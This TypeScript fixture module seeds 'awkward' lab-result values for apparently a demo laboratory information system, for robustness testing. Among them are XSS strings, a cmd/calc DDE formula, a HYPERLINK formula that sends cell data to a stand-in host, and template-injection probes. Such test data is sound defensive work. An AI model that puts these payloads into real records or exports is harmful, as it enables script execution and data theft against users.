import { ABSENT } from '@demo-lis/database/wire-patch';
import { testsWithField, testsWithResults } from '@demo-lis/seed/awkward/awkward-case';
import type { AwkwardCase, AwkwardTest } from '@demo-lis/seed/awkward/awkward-case';

const MARKUP = [
  '&lt;5',
  '&amp;lt;5',
  '&#60;5',
  '&#x3c;5',
  'a<b',
  '<p>texto',
  '<br/>',
  '<b onclick=alert(1)>x',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg/onload=alert(1)>',
  '<![CDATA[x]]>',
  '<!--',
  'javascript:alert(1)',
] as const;

const UNITS = [
  '10<sup>3</sup>/µL',
  '10<SUP>3</SUP>',
  'mL/min/1.73 m<sup>2',
  'm</sup>2',
  '&micro;L',
  '10<sup><img src=x onerror=alert(1)></sup>',
  'x<sub>y<sup>z</sub></sup>',
  '<sup></sup>',
  ' ',
  'unidad-muy-larga-'.repeat(12),
] as const;

const CHARACTERS = [
  'Mu\u0301ltiple NFD',
  'Nu\uFFFDez',
  'NÃºÃ±ez',
  'عربي 12',
  'abc\u202E321',
  '\u2066aislado\u2069',
  'a\u200Db',
  '\uFEFFcon BOM\uFEFF',
  'guion\u00ADblando',
  '👩🏽‍🔬🇨🇴',
  '\uD800',
  'a\u2028b',
  'Z' + '\u0301'.repeat(100),
  'ＡＢＣ１２３',
] as const;

const CONTROLS = [
  '5\u00006',
  '\u0007',
  '\u001B[31m5',
  'a\tb',
  'a\r\nb',
  'a\\nb',
  '\u007F5',
  '5\u0085',
];

const FORMULAS = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '=HYPERLINK("http://x.example?"&A1)',
  `=cmd|' /C calc'!A0`,
  '＝1',
  ';=1',
  '_x0041_',
] as const;

const TEMPLATES = [
  '{{7*7}}',
  '${7*7}',
  '{1+1}',
  '{tests.result}',
  String.raw`{\rtf1 Negativo}`,
  '{"ops":[{"insert":"Quill"}]}',
] as const;

function longText(name: string, result: string): AwkwardTest {
  return { name, stored: { result, result_type: 2 } };
}

/** Texts that a screen, a report or a spreadsheet could break on. */
export const TEXT_CASES: readonly AwkwardCase[] = [
  {
    kind: 'Textos clínicos',
    tests: testsWithResults([
      ...['<5', '< 5', '>1000', '<LDD', '<Límite de cuantificación', '≥ 90', '+', '++', '-'],
      ...['1:20', 'Negativo (<1:20)', '5-10 x campo', '±0,5', '=', 'No reactivo', '*', '5*'],
      ...['Ver comentario', '2026-11-20', '10<sup>6</sup>/µL', '> 1:160'],
    ]),
  },
  {
    kind: 'Campos vacíos o ausentes',
    tests: [
      ...testsWithField('result', [ABSENT, null, '', ' ', 'null', 'undefined', 'NULL', 'N/A']),
      ...testsWithField('result', ['-', '.', {}, [], true]),
      ...testsWithField('unit', [ABSENT, null, {}]),
      ...testsWithField('abbreviation', [ABSENT, null]),
      { name: 'x', wire: { testName: null } },
      {
        name: 'x',
        wire: Object.fromEntries(
          ['testName', 'areaId', 'areaName', 'profileId', 'profileName', 'state', 'unit'].map(
            (field) => [field, ABSENT],
          ),
        ),
      },
    ],
  },
  { kind: 'HTML en resultados', tests: testsWithResults(MARKUP) },
  { kind: 'Plantillas en resultados', tests: testsWithResults(TEMPLATES) },
  { kind: 'Unidades raras', tests: UNITS.map((unit) => ({ name: unit, stored: { unit } })) },
  { kind: 'Unicode', tests: testsWithField('result', CHARACTERS) },
  { kind: 'Caracteres de control', tests: testsWithField('result', CONTROLS) },
  { kind: 'Fórmulas', tests: testsWithResults(FORMULAS) },
  {
    kind: 'Textos largos',
    tests: [
      longText('5.000 letras sin espacio', 'A'.repeat(5_000)),
      longText('32.768 letras', 'Positivo '.repeat(3_641).slice(0, 32_768)),
      longText('200 líneas', Array.from({ length: 200 }, (_, line) => `Línea ${line}`).join('\n')),
      { name: 'Nombre de examen de trescientas letras '.repeat(8).slice(0, 300) },
      {
        name: 'Literal largo',
        stored: { ref_min: 0, ref_max: 0, ref_literal: 'Hasta 5\n'.repeat(60) },
      },
    ],
  },
];
